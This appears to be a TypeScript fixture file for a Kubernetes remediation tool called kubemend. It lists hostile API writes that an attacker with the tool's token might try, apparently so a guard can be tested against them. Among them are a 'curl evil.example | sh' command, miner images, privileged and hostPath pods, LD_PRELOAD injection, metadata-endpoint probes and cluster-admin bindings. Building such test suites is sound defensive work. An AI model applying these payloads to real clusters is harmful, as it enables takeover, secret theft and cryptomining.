/** A write that somebody with the actor's token might try; on objects of the small shop and of `prepareForEveryAction`. */
export interface HostileWrite {
  readonly name: string;
  readonly method: "PATCH" | "POST" | "DELETE";
  readonly path: string;
  readonly body: object;
  /** Media type of the body, where the method and the path do not say it. */
  readonly type?: string;
}

const digest = "0".repeat(64);
/** What an attacker can copy from any object that kubemend has changed. */
const stamp = { "kubemend.dev/incident": "7", "kubemend.dev/plan-digest": digest };
const stampedMeta = { metadata: { annotations: stamp } };

const workloads = [
  { kind: "Deployment", path: "/apis/apps/v1/namespaces/shop/deployments/carts", container: "carts" },
  { kind: "StatefulSet", path: "/apis/apps/v1/namespaces/shop/statefulsets/db", container: "db" },
  { kind: "DaemonSet", path: "/apis/apps/v1/namespaces/shop/daemonsets/agent", container: "c" },
  { kind: "CronJob", path: "/apis/batch/v1/namespaces/shop/cronjobs/nightly", container: "work" },
] as const;

/** Pod templates that give a workload more than it had. */
const templates = (name: string): readonly (readonly [string, object])[] => {
  const pod = (spec: object) => ({ spec });
  const container = (more: object) => pod({ containers: [{ name, ...more }] });
  const stranger = (more: object = {}) => ({ name: "stranger", image: "evil.example/miner:1", ...more });
  return [
    ["host network", pod({ hostNetwork: true })],
    ["host processes", pod({ hostPID: true })],
    ["host IPC", pod({ hostIPC: true })],
    ["the node's disk", pod({ volumes: [{ name: "root", hostPath: { path: "/" } }] })],
    ["a Secret as a volume", pod({ volumes: [{ name: "s", secret: { secretName: "admin" } }] })],
    [
      "a projected token",
      pod({ volumes: [{ name: "t", projected: { sources: [{ serviceAccountToken: { path: "t" } }] } }] }),
    ],
    ["a claim of another", pod({ volumes: [{ name: "v", persistentVolumeClaim: { claimName: "data" } }] })],
    ["another account", pod({ serviceAccountName: "kubemend-actor" })],
    ["a token mounted", pod({ automountServiceAccountToken: true })],
    ["pull secrets", pod({ imagePullSecrets: [{ name: "registry" }] })],
    ["a node of its choice", pod({ nodeName: "node-1" })],
    ["another scheduler", pod({ schedulerName: "mine" })],
    ["another runtime", pod({ runtimeClassName: "none" })],
    ["root for the pod", pod({ securityContext: { runAsUser: 0 } })],
    ["names of other hosts", pod({ hostAliases: [{ ip: "10.0.0.1", hostnames: ["api"] }] })],
    ["a shared process space", pod({ shareProcessNamespace: true })],
    ["a container more", pod({ containers: [stranger()] })],
    ["an init container", pod({ initContainers: [stranger({ command: ["sh", "-c", "env"] })] })],
    ["privileges", container({ securityContext: { privileged: true } })],
    ["capabilities", container({ securityContext: { capabilities: { add: ["SYS_ADMIN"] } } })],
    ["root", container({ securityContext: { runAsUser: 0 } })],
    ["a command", container({ command: ["sh", "-c", "curl evil.example | sh"] })],
    ["arguments", container({ args: ["--backdoor"] })],
    ["another program", container({ image: "evil.example/miner:1" })],
    ["another program of the same registry", container({ image: "registry.local/shop/miner:1" })],
    ["a program by a name that begins alike", container({ image: "registry.local/shop/carts-evil:1" })],
    ["a hook", container({ lifecycle: { postStart: { exec: { command: ["sh"] } } } })],
    [
      "a command as a probe",
      container({ livenessProbe: { exec: { command: ["sh", "-c", "x"] }, tcpSocket: null, httpGet: null } }),
    ],
    [
      "a probe of another host",
      container({
        readinessProbe: {
          httpGet: { host: "169.254.169.254", path: "/", port: 80 },
          tcpSocket: null,
          exec: null,
          grpc: null,
        },
      }),
    ],
    ["a disk of the network", pod({ volumes: [{ name: "n", nfs: { server: "10.0.0.1", path: "/" } }] })],
    [
      "a Secret as a variable",
      container({ env: [{ name: "S", valueFrom: { secretKeyRef: { name: "admin", key: "p" } } }] }),
    ],
    ["all of a Secret", container({ envFrom: [{ secretRef: { name: "admin" } }] })],
    ["a library loaded first", container({ env: [{ name: "LD_PRELOAD", value: "/tmp/x.so" }] })],
    [
      "an agent in its virtual machine",
      container({ env: [{ name: "JAVA_TOOL_OPTIONS", value: "-javaagent:/tmp/x.jar" }] }),
    ],
    ["an agent beside a size", container({ env: [{ name: "_JAVA_OPTIONS", value: "-Xmx1g -javaagent:/tmp/x.jar" }] })],
    ["a module loaded first", container({ env: [{ name: "NODE_OPTIONS", value: "--require /tmp/x.js" }] })],
    ["a file read by its shell", container({ env: [{ name: "BASH_ENV", value: "/tmp/x" }] })],
    ["a search path", container({ env: [{ name: "PATH", value: "/tmp:/usr/bin" }] })],
    ["a proxy", container({ env: [{ name: "https_proxy", value: "http://203.0.113.7:3128" }] })],
    [
      "a module by way of another variable",
      container({
        env: [
          { name: "MORE", value: "--require=/tmp/x.js" },
          { name: "NODE_OPTIONS", value: "--max-old-space-size=512 $(MORE)" },
        ],
      }),
    ],
    [
      "a library by reference",
      container({
        env: [{ name: "LD_PRELOAD", valueFrom: { configMapKeyRef: { name: "carts-config", key: "upstream" } } }],
      }),
    ],
    ["a library by a prefix", container({ envFrom: [{ prefix: "LD_", configMapRef: { name: "carts-config" } }] })],
    ["a port of the node", container({ ports: [{ containerPort: 9999, hostPort: 9999 }] })],
    ["a terminal", container({ stdin: true, tty: true })],
    ["another folder", container({ workingDir: "/root" })],
  ];
};

const metadata: readonly (readonly [string, object])[] = [
  ["a label", { labels: { team: "mine" } }],
  ["an annotation of others", { annotations: { ...stamp, "argocd.argoproj.io/sync-options": "Prune=false" } }],
  ["a heal endpoint", { annotations: { ...stamp, "kubemend.dev/heal-path": "/admin" } }],
  ["the mark of what kubemend made", { annotations: { ...stamp, "kubemend.dev/created": "true" } }],
  ["an owner", { annotations: stamp, ownerReferences: [{ apiVersion: "v1", kind: "ConfigMap", name: "x", uid: "u" }] }],
  ["a finalizer", { annotations: stamp, finalizers: ["example.com/mine"] }],
];

/** Marks on pods by which webhooks of others give them more. */
const podMarks: readonly (readonly [string, object])[] = [
  ["an order to a mesh", { metadata: { annotations: { "sidecar.istio.io/proxyImage": "evil.example/proxy:1" } } }],
  ["an order to an injector", { metadata: { annotations: { "vault.hashicorp.com/agent-inject": "true" } } }],
  ["a second network", { metadata: { annotations: { "k8s.v1.cni.cncf.io/networks": "mine" } } }],
  ["an identity in a cloud", { metadata: { labels: { "azure.workload.identity/use": "true" } } }],
];

const inTemplate = (kind: string, template: object) => ({
  ...stampedMeta,
  spec: kind === "CronJob" ? { jobTemplate: { spec: { template } } } : { template },
});

const onWorkloads: readonly HostileWrite[] = workloads.flatMap(({ kind, path, container }) => [
  ...[...templates(container), ...podMarks].map(([what, template]) => ({
    name: `${kind}: ${what}`,
    method: "PATCH" as const,
    path,
    body: inTemplate(kind, template),
  })),
  ...metadata.map(([what, meta]) => ({
    name: `${kind}: ${what}`,
    method: "PATCH" as const,
    path,
    body: { metadata: { annotations: stamp, ...meta } },
  })),
  ...[
    ["no plan at all", { metadata: { annotations: { note: "x" } } }],
    ["a plan that is none", { metadata: { annotations: { ...stamp, "kubemend.dev/plan-digest": "trust me" } } }],
    ["an incident that is none", { metadata: { annotations: { ...stamp, "kubemend.dev/incident": "x" } } }],
  ].map(([what, body]) => ({ name: `${kind}: ${String(what)}`, method: "PATCH" as const, path, body: body as object })),
]);

const shop = "/api/v1/namespaces/shop";
const patch = (name: string, path: string, body: object): HostileWrite => ({
  name,
  method: "PATCH",
  path,
  body: { ...stampedMeta, ...body },
});
const job = (name: string, spec: object, meta: object = {}): HostileWrite => ({
  name: `a Job ${name}`,
  method: "POST",
  path: "/apis/batch/v1/namespaces/shop/jobs",
  body: {
    apiVersion: "batch/v1",
    kind: "Job",
    metadata: { name: "reindex-rerun-x", annotations: { ...stamp, "kubemend.dev/rerun-of": "reindex" }, ...meta },
    spec: {
      template: { spec: { restartPolicy: "Never", containers: [{ name: "c", image: "registry.local/c:1" }], ...spec } },
    },
  },
});
const jobContainer = (more: object) => ({ containers: [{ name: "c", image: "registry.local/c:1", ...more }] });
const role = (name: string, rule: object, path = "/apis/rbac.authorization.k8s.io/v1/namespaces/shop/roles/carts") =>
  patch(`a role with ${name}`, path, { rules: [{ apiGroups: [""], resources: ["pods"], verbs: ["get"], ...rule }] });
const autoscaler = (
  name: string,
  spec: object,
  annotations: object = { "kubemend.dev/created": "true" },
): HostileWrite => ({
  name: `an autoscaler ${name}`,
  method: "POST",
  path: "/apis/autoscaling/v2/namespaces/shop/horizontalpodautoscalers",
  body: {
    apiVersion: "autoscaling/v2",
    kind: "HorizontalPodAutoscaler",
    metadata: { name: "carts", annotations: { ...stamp, ...annotations } },
    spec: {
      scaleTargetRef: { apiVersion: "apps/v1", kind: "Deployment", name: "carts" },
      maxReplicas: 5,
      metrics: [
        { type: "Resource", resource: { name: "cpu", target: { type: "Utilization", averageUtilization: 70 } } },
      ],
      ...spec,
    },
  },
});

const applied = "application/apply-patch+yaml";
const carts = {
  apiVersion: "apps/v1",
  kind: "Deployment",
  metadata: { name: "carts", namespace: "shop", annotations: stamp },
};
const deployments = "/apis/apps/v1/namespaces/shop/deployments";
const miner = { name: "carts", image: "evil.example/miner:1" };

/** By other ways than a patch of the object itself. */
const otherWays: readonly HostileWrite[] = [
  {
    name: "a forced apply of another program",
    method: "PATCH",
    path: `${deployments}/carts?fieldManager=mine&force=true`,
    type: applied,
    body: { ...carts, spec: { template: { spec: { containers: [miner] } } } },
  },
  {
    name: "a Deployment by apply",
    method: "PATCH",
    path: `${deployments}/miner?fieldManager=mine&force=true`,
    type: applied,
    body: {
      ...carts,
      metadata: { ...carts.metadata, name: "miner" },
      spec: {
        selector: { matchLabels: { app: "miner" } },
        template: { metadata: { labels: { app: "miner" } }, spec: { containers: [miner] } },
      },
    },
  },
  patch("a rollout that seems done", `${deployments}/carts/status`, { status: { observedGeneration: 99 } }),
  patch("a node that seems well", "/api/v1/nodes/node-1/status", { status: { capacity: { cpu: "1000" } } }),
  patch("a guest in a pod", `${shop}/pods/carts-2-abcde/ephemeralcontainers`, {
    spec: { ephemeralContainers: [{ name: "guest", image: "evil.example/miner:1" }] },
  }),
  patch("a pod that seems ready", `${shop}/pods/carts-2-abcde/status`, { status: { phase: "Succeeded" } }),
  patch("trust in another authority", `${shop}/configmaps/kube-root-ca.crt`, { data: { "ca.crt": "mine" } }),
  patch("trust in another mesh", `${shop}/configmaps/istio-ca-root-cert`, { data: { "root-cert.pem": "mine" } }),
];

const others: readonly HostileWrite[] = [
  patch("replicas without the scale subresource", workloads[0].path, { spec: { replicas: 0 } }),
  patch("a million replicas", `${workloads[0].path}/scale`, { spec: { replicas: 1_000_000 } }),
  patch("a schedule", workloads[3].path, { spec: { schedule: "* * * * *" } }),
  patch("a Service that points elsewhere", `${shop}/services/carts`, {
    spec: { type: "ExternalName", externalName: "evil.example" },
  }),
  patch("an outside address", `${shop}/services/carts`, { spec: { externalIPs: ["203.0.113.7"] } }),
  patch("a Service on every node", `${shop}/services/carts`, { spec: { type: "NodePort" } }),
  patch("a load balancer", `${shop}/services/carts`, { spec: { type: "LoadBalancer" } }),
  patch("a port more", `${shop}/services/carts`, {
    spec: { ports: [{ name: "extra", port: 9999, targetPort: 9999 }] },
  }),
  patch("bytes of a ConfigMap", `${shop}/configmaps/carts-config`, { binaryData: { a: "AAAA" } }),
  patch("a ConfigMap for good", `${shop}/configmaps/carts-config`, { immutable: true }),
  patch("a library for who reads a ConfigMap", `${shop}/configmaps/carts-config`, {
    data: { LD_PRELOAD: "/tmp/x.so" },
  }),
  patch("an agent for who reads a ConfigMap", `${shop}/configmaps/carts-config`, {
    data: { JAVA_TOOL_OPTIONS: "-Xmx1g -agentpath:/tmp/x.so" },
  }),
  patch("quota scopes", `${shop}/resourcequotas/shop-quota`, { metadata: { annotations: stamp, labels: { a: "b" } } }),
  patch("a taint", "/api/v1/nodes/node-1", { spec: { taints: [{ key: "a", effect: "NoExecute" }] } }),
  patch("a label of a node", "/api/v1/nodes/node-1", {
    metadata: { annotations: stamp, labels: { "node-role.kubernetes.io/control-plane": "" } },
  }),
  patch("a claim's label", `${shop}/persistentvolumeclaims/data`, {
    metadata: { annotations: stamp, labels: { a: "b" } },
  }),
  patch("an autoscaler's target", "/apis/autoscaling/v2/namespaces/shop/horizontalpodautoscalers/db-scaler", {
    spec: { scaleTargetRef: { apiVersion: "apps/v1", kind: "Deployment", name: "carts" } },
  }),
  patch("a pod's label", `${shop}/pods/carts-2-abcde`, { metadata: { annotations: stamp, labels: { app: "other" } } }),
  patch("a pod's image", `${shop}/pods/carts-2-abcde`, {
    spec: { containers: [{ name: "carts", image: "evil.example/miner:1" }] },
  }),
  patch("a Job's parallelism", "/apis/batch/v1/namespaces/shop/jobs/reindex", { spec: { parallelism: 50 } }),
  patch("a Job that begins", "/apis/batch/v1/namespaces/shop/jobs/reindex", { spec: { suspend: true } }),
  role("every verb", { verbs: ["*"] }),
  role("every resource", { resources: ["*"] }),
  role("every group", { apiGroups: ["*"] }),
  role("Secrets", { resources: ["secrets"] }),
  role("exec", { resources: ["pods/exec"], verbs: ["create"] }),
  role("tokens", { resources: ["serviceaccounts/token"], verbs: ["create"] }),
  role("escalation", { apiGroups: ["rbac.authorization.k8s.io"], resources: ["roles"], verbs: ["escalate"] }),
  role("binding", { resources: ["pods"], verbs: ["bind"] }),
  role("impersonation", { resources: ["users"], verbs: ["impersonate"] }),
  role("the kubelets", { resources: ["nodes/proxy"] }),
  role(
    "paths",
    { nonResourceURLs: ["/metrics"], resources: null, apiGroups: null },
    "/apis/rbac.authorization.k8s.io/v1/clusterroles/shop",
  ),
  role("other policies", { resources: ["mutatingadmissionpolicies"], verbs: ["create"] }),
  role("signed certificates", { resources: ["certificatesigningrequests/approval"], verbs: ["update"] }),
  role("every pod's port", { resources: ["pods/proxy"], verbs: ["create"] }),
  role("every Service's port", { resources: ["services/proxy"], verbs: ["get"] }),
  role("labels of nodes", { resources: ["nodes"], verbs: ["patch"] }),
  role("labels of namespaces", { resources: ["namespaces"], verbs: ["get", "update"] }),
  role("disks of nodes", { resources: ["persistentvolumes"], verbs: ["create"] }),
  role("its own name", {}, "/apis/rbac.authorization.k8s.io/v1/clusterroles/kubemend-actor"),
  patch("an aggregated role", "/apis/rbac.authorization.k8s.io/v1/clusterroles/shop", {
    aggregationRule: { clusterRoleSelectors: [{ matchLabels: { a: "b" } }] },
  }),
  job("that repeats nothing", {}, { annotations: stamp }),
  job("under another name", {}, { name: "miner" }),
  job("without a plan", {}, { annotations: { "kubemend.dev/rerun-of": "reindex" } }),
  job("with an owner", {}, { ownerReferences: [{ apiVersion: "v1", kind: "ConfigMap", name: "x", uid: "u" }] }),
  job("on the node's network", { hostNetwork: true }),
  job("among the node's processes", { hostPID: true }),
  job("on a chosen node", { nodeName: "node-1" }),
  job("with the node's disk", { volumes: [{ name: "r", hostPath: { path: "/" } }] }),
  job("with a Secret as a volume", { volumes: [{ name: "s", secret: { secretName: "admin" } }] }),
  job("with a projected token", { volumes: [{ name: "t", projected: { sources: [] } }] }),
  job("as another account", { serviceAccountName: "kubemend-actor" }),
  job("with pull secrets", { imagePullSecrets: [{ name: "registry" }] }),
  job("with privileges", jobContainer({ securityContext: { privileged: true } })),
  job("that may get privileges", jobContainer({ securityContext: { allowPrivilegeEscalation: true } })),
  job("with capabilities", jobContainer({ securityContext: { capabilities: { add: ["NET_ADMIN"] } } })),
  job("as another account by the field's old name", { serviceAccount: "kubemend-actor" }),
  job("with a disk of the network", { volumes: [{ name: "n", nfs: { server: "10.0.0.1", path: "/" } }] }),
  job("with a repository that the node fetches", { volumes: [{ name: "g", gitRepo: { repository: "x" } }] }),
  job("with a driver on the node", { volumes: [{ name: "f", flexVolume: { driver: "a/b" } }] }),
  job("as a process of a Windows node", {
    hostNetwork: false,
    securityContext: { windowsOptions: { hostProcess: true, runAsUserName: "NT AUTHORITY\\SYSTEM" } },
  }),
  job("with every system call", jobContainer({ securityContext: { seccompProfile: { type: "Unconfined" } } })),
  job("with every system call for the pod", { securityContext: { seccompProfile: { type: "Unconfined" } } }),
  job("without AppArmor", jobContainer({ securityContext: { appArmorProfile: { type: "Unconfined" } } })),
  job("with a label of SELinux", { securityContext: { seLinuxOptions: { type: "spc_t" } } }),
  job("with settings of the kernel", { securityContext: { sysctls: [{ name: "kernel.msgmax", value: "1" }] } }),
  job(
    "whose hook asks the node's network",
    jobContainer({ lifecycle: { preStop: { httpGet: { host: "169.254.169.254", port: 80, path: "/" } } } }),
  ),
  job(
    "with a Secret as a variable",
    jobContainer({ env: [{ name: "S", valueFrom: { secretKeyRef: { name: "a", key: "b" } } }] }),
  ),
  job("with all of a Secret", jobContainer({ envFrom: [{ secretRef: { name: "a" } }] })),
  job("with a port of the node", jobContainer({ ports: [{ containerPort: 1, hostPort: 1 }] })),
  job("with privileges before it starts", {
    initContainers: [{ name: "i", image: "a", securityContext: { privileged: true } }],
  }),
  {
    name: "a Job of a million pods",
    method: "POST",
    path: "/apis/batch/v1/namespaces/shop/jobs",
    body: {
      apiVersion: "batch/v1",
      kind: "Job",
      metadata: { name: "reindex-rerun-x", annotations: { ...stamp, "kubemend.dev/rerun-of": "reindex" } },
      spec: {
        parallelism: 1_000_000,
        template: { spec: { restartPolicy: "Never", containers: [{ name: "c", image: "registry.local/c:1" }] } },
      },
    },
  },
  autoscaler("of another workload", { scaleTargetRef: { apiVersion: "apps/v1", kind: "Deployment", name: "payment" } }),
  autoscaler("without end", { maxReplicas: 5_000 }),
  autoscaler("by an outside metric", {
    metrics: [{ type: "External", external: { metric: { name: "a" }, target: { type: "Value", value: "1" } } }],
  }),
  autoscaler("without a mark", {}, {}),
  {
    name: "an autoscaler of others goes",
    method: "DELETE",
    path: "/apis/autoscaling/v2/namespaces/shop/horizontalpodautoscalers/db-scaler",
    body: {},
  },
  { name: "a Deployment goes", method: "DELETE", path: workloads[0].path, body: {} },
  { name: "a ConfigMap goes", method: "DELETE", path: `${shop}/configmaps/carts-config`, body: {} },
  { name: "all pods go", method: "DELETE", path: `${shop}/pods`, body: {} },
  { name: "a Service goes", method: "DELETE", path: `${shop}/services/carts`, body: {} },
  { name: "a namespace goes", method: "DELETE", path: "/api/v1/namespaces/shop", body: {} },
  ...["kube-system", "kube-public", "kubemend"].flatMap((namespace): HostileWrite[] => [
    patch(`a ConfigMap in ${namespace}`, `/api/v1/namespaces/${namespace}/configmaps/held`, { data: { a: "b" } }),
    {
      name: `a pod in ${namespace} goes`,
      method: "DELETE",
      path: `/api/v1/namespaces/${namespace}/pods/held`,
      body: {},
    },
    {
      name: `a pod in ${namespace} is evicted`,
      method: "POST",
      path: `/api/v1/namespaces/${namespace}/pods/held/eviction`,
      body: { apiVersion: "policy/v1", kind: "Eviction", metadata: { name: "held", namespace } },
    },
    {
      name: `a pod in ${namespace} is asked`,
      method: "POST",
      path: `/api/v1/namespaces/${namespace}/pods/held:8080/proxy/admin`,
      body: {},
    },
  ]),
  {
    name: "a pod",
    method: "POST",
    path: `${shop}/pods`,
    body: {
      apiVersion: "v1",
      kind: "Pod",
      metadata: { name: "mine", annotations: stamp },
      spec: { containers: [{ name: "c", image: "a" }] },
    },
  },
  {
    name: "a Secret",
    method: "POST",
    path: `${shop}/secrets`,
    body: { apiVersion: "v1", kind: "Secret", metadata: { name: "mine", annotations: stamp }, stringData: { a: "b" } },
  },
  {
    name: "a binding to cluster-admin",
    method: "POST",
    path: "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings",
    body: {
      apiVersion: "rbac.authorization.k8s.io/v1",
      kind: "ClusterRoleBinding",
      metadata: { name: "mine", annotations: stamp },
      roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "ClusterRole", name: "cluster-admin" },
      subjects: [{ kind: "ServiceAccount", name: "kubemend-actor", namespace: "kubemend" }],
    },
  },
];

/** All of them are writes that the API itself would take. */
export const hostileWrites: readonly HostileWrite[] = [...onWorkloads, ...others, ...otherWays];
